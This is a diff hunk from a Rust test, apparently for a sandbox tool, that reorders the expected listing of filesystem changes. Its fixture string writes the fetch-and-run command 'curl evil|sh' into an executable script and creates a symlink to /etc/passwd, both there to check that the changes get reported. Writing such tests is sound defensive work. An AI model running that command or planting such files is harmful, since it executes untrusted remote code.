@@ -348,8 +348,8 @@ const LARGE: &str = "seq 20000 > a.txt; echo 'curl evil|sh' > z.sh; chmod 750 z.
 fn c_32_8_a_question_lists_every_change_and_names_what_prints_a_cut_diff() {
     let Some(sandbox) = waiting("", LARGE) else { return };
     let listed = "    directory, now file, mode 0644: d\n    deleted file: d/x\n    deleted file: gone\n    \
-        new file, mode 0750: z.sh\n    new symlink: zz -> /etc/passwd\n    new file, mode 0644: a.txt\n    \
-        new directory, mode 2755: empty\n    file, mode 0644, now 0600: f\n    new file, mode 0644: n/m/file\n    \
+        new directory, mode 2755: empty\n    new file, mode 0750: z.sh\n    new symlink: zz -> /etc/passwd\n    new file, mode 0644: a.txt\n    \
+        file, mode 0644, now 0600: f\n    new file, mode 0644: n/m/file\n    \
         Deleted directory d\n    diff --git ";
     let work = sandbox.path("work").canonicalize().unwrap();
     let command = format!("delta diff r -w {}", work.display());
